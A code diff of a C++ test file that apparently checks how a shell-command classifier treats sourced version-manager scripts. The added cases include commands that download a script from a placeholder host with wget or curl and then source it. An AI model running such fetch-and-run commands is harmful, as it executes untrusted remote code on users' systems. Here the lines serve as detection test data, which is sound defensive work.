@@ -63,7 +63,9 @@ TEST(Everyday, a_known_program_in_an_unknown_folder) {
 }
 
 TEST(Everyday, scripts_of_version_managers) {
-  expect_effects(is_unseen, {". \"$X/x.sh\"", ". \"$X\"", "bash \"$X/nvm.sh\"", "D=$(curl h.example); . \"$D/nvm.sh\""},
+  expect_effects(is_unseen,
+                 {". \"$X/x.sh\"", ". \"$X\"", "bash \"$X/nvm.sh\"", "echo \"$Y\" > \"$D/nvm.sh\"; . \"$D/nvm.sh\"",
+                  "wget -O \"$D/nvm.sh\" h.example; . \"$D/nvm.sh\"", "D=$(curl h.example); . \"$D/nvm.sh\""},
                  {". \"$NVM_DIR/nvm.sh\"", "[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\" && nvm use 20",
                   "source \"$(conda info --base)/etc/profile.d/conda.sh\"", ". \"$SDKMAN_DIR/bin/sdkman-init.sh\"",
                   "source \"$VENV/bin/activate\""});
